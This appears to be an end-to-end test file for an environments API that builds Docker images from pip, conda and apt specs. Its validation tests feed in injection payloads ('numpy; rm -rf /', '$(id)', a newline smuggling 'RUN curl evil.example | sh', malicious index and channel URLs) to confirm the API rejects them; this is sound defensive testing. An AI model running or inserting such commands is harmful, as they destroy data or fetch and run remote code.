import { datascienceSpec } from '../libs/environments/src/builtin-environments';
import { normalizeSpec } from '../libs/environments/src/environment-spec.rules';
import { isFinal, pollUntil, readEvents, request, run, submit } from './support/api-client';
import { imageExists, removeImage } from './support/docker-images';
import { eventually } from './support/eventually';
import { privateStack } from './support/private-stack';

/*
 * Environments end to end: real builds on the real engine. Builds cost time,
 * so the tests share a few environments and run in order: create with pip
 * from the test wheelhouse (made by the global setup: sps-hello 0.1.0 and
 * 0.2.0, with no index), rebuild, rebuild on a host without the image,
 * build on a base, fail, delete. Names carry the run's id, so runs side by
 * side on one engine never share an image.
 */

const RUN = (process.env.E2E_REDIS_PREFIX ?? 'e2e').replace(/[^a-z0-9-]/g, '');
const PIP_ENV = `${RUN}-pip`;
const CHILD_ENV = `${RUN}-child`;
const BAD_ENV = `${RUN}-bad`;
const BUILD_MS = 10 * 60_000;

const create = (body: Record<string, unknown>) => request('POST', '/v1/environments', body);
const get = (name: string) => request('GET', `/v1/environments/${name}`);
const followToEnd = (name: string, timeoutMs = BUILD_MS) =>
  readEvents(`/v1/environments/${name}/build-log`, { timeoutMs });
const endOf = (events: { event: string; data: string }[]) =>
  JSON.parse(events.find((e) => e.event === 'end')?.data ?? 'null');
const logLines = (events: { event: string; data: string }[]) =>
  events.filter((e) => e.event === 'log').map((e) => e.data);
/** Waits until `check` holds; fails naming `what` if it never does. */
const until = (what: string, check: () => Promise<boolean>) =>
  eventually(what, async () => ((await check()) ? true : undefined));
const liveWorkers = async (): Promise<any[]> => (await request('GET', '/health/ready')).body.details.workers.live;

describe('environments', () => {
  describe('validation', () => {
    const expect400 = async (body: Record<string, unknown>, field: string) => {
      const response = await create(body);
      expect(response.status).toBe(400);
      expect(response.body.message).toEqual(
        expect.arrayContaining([expect.stringMatching(new RegExp(`^${field.replace('.', '\\.')}\\b`))]),
      );
    };

    it.each([
      ['a command after a semicolon', { pip: ['numpy; rm -rf /'] }, 'pip.0'],
      ['command substitution', { apt: ['$(id)'] }, 'apt.0'],
      ['backticks', { conda: ['`id`'] }, 'conda.0'],
      ['a newline with a Dockerfile instruction', { pip: ['ok', 'numpy\nRUN curl evil.example | sh'] }, 'pip.1'],
      ['a pip option pointing at another index', { pip: ['--index-url=https://evil.example/simple'] }, 'pip.0'],
      ['an editable VCS install', { pip: ['-e git+https://evil.example/x.git#egg=x'] }, 'pip.0'],
      ['a channel URL', { conda: ['numpy'], channels: ['https://evil.example/channel'] }, 'channels.0'],
      ['a python version with shell in it', { python: '3.11"; id; "', pip: ['x'] }, 'python'],
    ])('answers 400 naming the field for %s, and creates nothing', async (_label, spec, field) => {
      await expect400({ name: `${RUN}-evil`, ...spec }, field);
      expect((await get(`${RUN}-evil`)).status).toBe(404);
    });

    it('answers 400 for a bad name, an unknown field, no packages, or an unknown base', async () => {
      await expect400({ name: 'Bad_Name', pip: ['x'] }, 'name');
      await expect400({ name: `${RUN}-x`, pip: ['x'], dockerfile: 'FROM evil' }, 'dockerfile');
      await expect400({ name: `${RUN}-x` }, 'conda, pip or apt');
      await expect400({ name: `${RUN}-x`, pip: ['x'], base: `${RUN}-no-such-base` }, 'base');
    });

    it('refuses to create, replace or delete default with 409', async () => {
      expect((await create({ name: 'default', pip: ['x'] })).status).toBe(409);
      expect((await request('DELETE', '/v1/environments/default')).status).toBe(409);
      const listed = (await request('GET', '/v1/environments')).body;
      expect(listed.find((e: any) => e.name === 'default')).toMatchObject({ status: 'ready', builtin: true });
    });
  });

  describe('lifecycle', () => {
    let v1: { specHash: string; image: string };
    let v2: { specHash: string; image: string };

    it(
      'creates an environment with pip from a local wheel; a job sent meanwhile waits for it; the SSE log follows the build to ready',
      async () => {
        const response = await create({ name: PIP_ENV, pip: ['sps-hello==0.1.0'] });
        expect(response.status).toBe(202);
        expect(response.body).toMatchObject({
          name: PIP_ENV,
          status: 'building',
          specHash: expect.stringMatching(/^[0-9a-f]{16}$/),
        });
        expect(response.headers.get('location')).toBe(`/v1/environments/${PIP_ENV}`);
        // Sent before the build ends: the job waits for the environment instead of failing.
        const early = await submit('import sps_hello; print(sps_hello.greet())', { environment: PIP_ENV });

        const { status, headers, events } = await followToEnd(PIP_ENV);
        expect(status).toBe(200);
        expect(headers.get('content-type')).toMatch(/^text\/event-stream/);
        expect(JSON.parse(events[0].data)).toMatchObject({ name: PIP_ENV, specHash: response.body.specHash });
        expect(endOf(events)).toEqual({ status: 'ready', error: null });
        expect(logLines(events)).toEqual(
          expect.arrayContaining([expect.stringContaining('Successfully installed sps-hello-0.1.0')]),
        );

        const detail = (await get(PIP_ENV)).body;
        expect(detail).toMatchObject({
          status: 'ready',
          specHash: response.body.specHash,
          activeSpecHash: response.body.specHash,
          error: null,
        });
        expect(detail.image).toContain(response.body.specHash);
        expect(detail.sizeBytes).toBeGreaterThan(0);
        expect(detail.buildLog).toEqual(logLines(events).slice(-200));
        expect(detail.dockerfile).toContain("'sps-hello==0.1.0'");
        expect(await imageExists(detail.image)).toBe(true);
        v1 = { specHash: detail.specHash, image: detail.image };

        const result = await pollUntil(early, isFinal, 60_000);
        expect(result).toMatchObject({
          status: 'succeeded',
          stdout: 'hello from sps-hello 0.1.0\n',
          environment: PIP_ENV,
        });
      },
      BUILD_MS,
    );

    it('is idempotent for the same spec', async () => {
      const again = await create({ name: PIP_ENV, pip: ['sps-hello==0.1.0'] });
      expect(again.status).toBe(200);
      expect(again.body).toEqual({ name: PIP_ENV, status: 'ready', specHash: v1.specHash });
    });

    it('runs a job that imports the package, and reports it as used and available on the worker', async () => {
      const result = await run('import sps_hello, sys; print(sps_hello.greet()); print(sys.executable)', {
        environment: PIP_ENV,
      });
      expect(result).toMatchObject({ status: 'succeeded', environment: PIP_ENV });
      expect(result.stdout.split('\n')[0]).toBe('hello from sps-hello 0.1.0');
      const listed = (await request('GET', '/v1/environments')).body.find((e: any) => e.name === PIP_ENV);
      expect(Date.parse(listed.lastUsedAt)).toBeGreaterThanOrEqual(Date.parse(result.startedAt) - 1000);
      expect(listed).toMatchObject({ status: 'ready', specHash: v1.specHash, image: v1.image, builtin: false });
      await until('the worker heartbeat lists the environment', async () =>
        (await liveWorkers()).some((w) => w.environments.includes(PIP_ENV)),
      );
      expect((await get(PIP_ENV)).body.availableOn.length).toBeGreaterThanOrEqual(1);
    });

    it(
      'rebuilds with a changed spec while a running job keeps its image, then retires the old image',
      async () => {
        const long = await submit('import sps_hello, time; v = sps_hello.__version__; time.sleep(50); print(v)', {
          environment: PIP_ENV,
          limits: { timeoutMs: 60_000 },
        });
        await pollUntil(long, (r) => r.status === 'running');

        const response = await create({ name: PIP_ENV, pip: ['sps-hello==0.2.0'] });
        expect(response.status).toBe(202);
        expect(response.body.specHash).not.toBe(v1.specHash);
        // Until the new version is ready, jobs run in the old one.
        expect((await get(PIP_ENV)).body).toMatchObject({
          specHash: response.body.specHash,
          activeSpecHash: v1.specHash,
        });
        expect(endOf((await followToEnd(PIP_ENV)).events)).toEqual({ status: 'ready', error: null });

        const detail = (await get(PIP_ENV)).body;
        expect(detail).toMatchObject({
          status: 'ready',
          specHash: response.body.specHash,
          activeSpecHash: response.body.specHash,
        });
        expect(detail.image).not.toBe(v1.image);
        v2 = { specHash: detail.specHash, image: detail.image };
        expect(await run('import sps_hello; print(sps_hello.__version__)', { environment: PIP_ENV })).toMatchObject({
          status: 'succeeded',
          stdout: '0.2.0\n',
        });

        // The long job started on the old image, which stays while its container runs.
        const during = (await request('GET', `/v1/executions/${long}`)).body;
        if (during.status !== 'running')
          throw new Error(`the long job should still be running; it is ${during.status}`);
        expect(await imageExists(v1.image)).toBe(true);
        expect((await request('DELETE', `/v1/executions/${long}`)).body.status).toBe('cancelled');
        await until(`the replaced image ${v1.image} is removed`, async () => !(await imageExists(v1.image)));
        expect(await imageExists(v2.image)).toBe(true);
      },
      BUILD_MS,
    );

    it(
      'lets a worker whose engine lacks the image build it from the stored spec before running the job',
      async () => {
        await removeImage(v2.image);
        await until('the heartbeat stops listing the environment', async () =>
          (await liveWorkers()).every((w) => !w.environments.includes(PIP_ENV)),
        );
        const result = await pollUntil(
          await submit('import sps_hello; print(sps_hello.__version__)', { environment: PIP_ENV }),
          isFinal,
          BUILD_MS,
        );
        expect(result).toMatchObject({ status: 'succeeded', stdout: '0.2.0\n' });
        expect(await imageExists(v2.image)).toBe(true);
        await until('the heartbeat lists the environment again', async () =>
          (await liveWorkers()).some((w) => w.environments.includes(PIP_ENV)),
        );
      },
      BUILD_MS,
    );

    it(
      'builds an environment on another one, and refuses to delete a base that is in use',
      async () => {
        const response = await create({ name: CHILD_ENV, base: PIP_ENV, apt: ['python3-six'] });
        expect(response.status).toBe(202);
        expect(endOf((await followToEnd(CHILD_ENV)).events)).toEqual({ status: 'ready', error: null });
        const result = await run('import six, sps_hello; print(sps_hello.__version__, six.__name__)', {
          environment: CHILD_ENV,
        });
        expect(result).toMatchObject({ status: 'succeeded', stdout: '0.2.0 six\n' });

        const refused = await request('DELETE', `/v1/environments/${PIP_ENV}`);
        expect(refused.status).toBe(409);
        expect(refused.body.message).toContain(CHILD_ENV);
        const child = (await get(CHILD_ENV)).body;
        expect((await request('DELETE', `/v1/environments/${CHILD_ENV}`)).status).toBe(204);
        await until(`the image ${child.image} is removed`, async () => !(await imageExists(child.image)));
      },
      BUILD_MS,
    );

    it(
      'reports a failing build as failed, with its log, and fails jobs for it with a clear error',
      async () => {
        const missing = `sps-no-such-package-${RUN}`;
        expect((await create({ name: BAD_ENV, apt: [missing] })).status).toBe(202);
        const { events } = await followToEnd(BAD_ENV);
        const end = endOf(events);
        expect(end.status).toBe('failed');
        expect(end.error).toContain(`Unable to locate package ${missing}`);
        const detail = (await get(BAD_ENV)).body;
        expect(detail).toMatchObject({ status: 'failed', activeSpecHash: null, image: null, error: end.error });
        expect(detail.buildLog).toEqual(
          expect.arrayContaining([expect.stringContaining(`Unable to locate package ${missing}`)]),
        );

        const result = await run('print(1)', { environment: BAD_ENV });
        expect(result.status).toBe('error');
        expect(result.error).toBe(`environment "${BAD_ENV}" failed to build: ${end.error}`);
        expect((await request('DELETE', `/v1/environments/${BAD_ENV}`)).status).toBe(204);
      },
      BUILD_MS,
    );

    it('deletes the environment and its images; jobs for it then end as error', async () => {
      expect((await request('DELETE', `/v1/environments/${PIP_ENV}`)).status).toBe(204);
      expect((await get(PIP_ENV)).status).toBe(404);
      expect((await request('GET', `/v1/environments/${PIP_ENV}/build-log`)).status).toBe(404);
      expect((await request('GET', '/v1/environments')).body.map((e: any) => e.name)).not.toContain(PIP_ENV);
      await until(`the image ${v2.image} is removed`, async () => !(await imageExists(v2.image)));
      const result = await run('print(1)', { environment: PIP_ENV });
      expect(result).toMatchObject({ status: 'error', error: `unknown environment "${PIP_ENV}"` });
      expect((await request('DELETE', `/v1/environments/${PIP_ENV}`)).status).toBe(404);
    });
  });

  it('refuses builds, with the reason, on a worker whose build network does not exist', async () => {
    const own = await privateStack('no-build-net', { ENV_BUILD_NETWORK: `sps-no-such-network-${RUN}` });
    try {
      await own.stack.start(1);
      expect(
        (await own.request('POST', '/v1/environments', { name: `${RUN}-netless`, apt: ['python3-six'] })).status,
      ).toBe(202);
      const end = endOf(
        (await own.readEvents(`/v1/environments/${RUN}-netless/build-log`, { timeoutMs: 60_000 })).events,
      );
      expect(end.status).toBe('failed');
      expect(end.error).toContain(`build network "sps-no-such-network-${RUN}" (ENV_BUILD_NETWORK) does not exist`);
    } finally {
      await own.cleanUp();
    }
  }, 90_000);

  it('ends a job for an environment that never existed as error', async () => {
    const result = await run('print(1)', { environment: `${RUN}-never` });
    expect(result).toMatchObject({ status: 'error', error: `unknown environment "${RUN}-never"` });
  });

  it('lists the environment endpoints in the OpenAPI document', async () => {
    const paths = Object.keys((await request('GET', '/docs-json')).body.paths);
    expect(paths).toEqual(
      expect.arrayContaining(['/v1/environments', '/v1/environments/{name}', '/v1/environments/{name}/build-log']),
    );
  });

  describe('datascience', () => {
    it('is added to the catalogue when an API first starts, once: deleting it keeps it deleted', async () => {
      // An API of its own, on a prefix of its own, with the built-in enabled (the shared stack has it off).
      const first = await privateStack('seed', { ENV_DATASCIENCE: 'apt' });
      try {
        await first.stack.start(0);
        const seeded = (await first.request('GET', '/v1/environments/datascience')).body;
        expect(seeded).toMatchObject({
          name: 'datascience',
          status: 'building',
          builtin: true,
          spec: normalizeSpec(datascienceSpec('apt')),
        });
        expect((await first.request('DELETE', '/v1/environments/datascience')).status).toBe(204);
        await first.stack.stop();
        // The same deployment (prefix) starting again.
        await first.stack.start(0);
        expect((await first.request('GET', '/v1/environments/datascience')).status).toBe(404);
      } finally {
        await first.cleanUp();
      }
    }, 60_000);

    it(
      'builds from Debian packages and draws a PNG with matplotlib',
      async () => {
        // The built-in recipe; ready at once when `npm run image:datascience` built it on this host.
        const response = await create({ name: 'datascience', ...datascienceSpec('apt') });
        expect([200, 202]).toContain(response.status);
        expect(endOf((await followToEnd('datascience', 30 * 60_000)).events)).toEqual({ status: 'ready', error: null });

        const result = await run(
          `
import matplotlib, numpy as np, pandas as pd, scipy.stats
import matplotlib.pyplot as plt
x = np.linspace(0, 2 * np.pi, 200)
frame = pd.DataFrame({"x": x, "y": np.sin(x)})
fig, ax = plt.subplots(figsize=(4, 3), dpi=100)
ax.plot(frame.x, frame.y)
ax.set_title("p=%.3f" % scipy.stats.norm.cdf(0))
fig.savefig("plot.png")
width, height = (fig.get_size_inches() * fig.dpi).round().astype(int)
print(matplotlib.get_backend(), width, height, len(open("plot.png", "rb").read()))
`,
          { environment: 'datascience', limits: { memoryMb: 512, timeoutMs: 60_000 } },
        );
        expect(result).toMatchObject({ status: 'succeeded', stderr: '' });
        const [backend, width, height, size] = result.stdout.trim().split(' ');
        expect(backend.toLowerCase()).toBe('agg');
        const file = result.files.find((f: any) => f.path === 'plot.png');
        const png = Buffer.from(file.content, 'base64');
        expect(png.subarray(0, 8)).toEqual(Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]));
        expect(png.length).toBe(Number(size));
        expect(file.size).toBe(png.length);
        expect(png.subarray(12, 16).toString('latin1')).toBe('IHDR');
        expect(png.readUInt32BE(16)).toBe(Number(width));
        expect(png.readUInt32BE(20)).toBe(Number(height));
      },
      31 * 60_000,
    );
  });
});
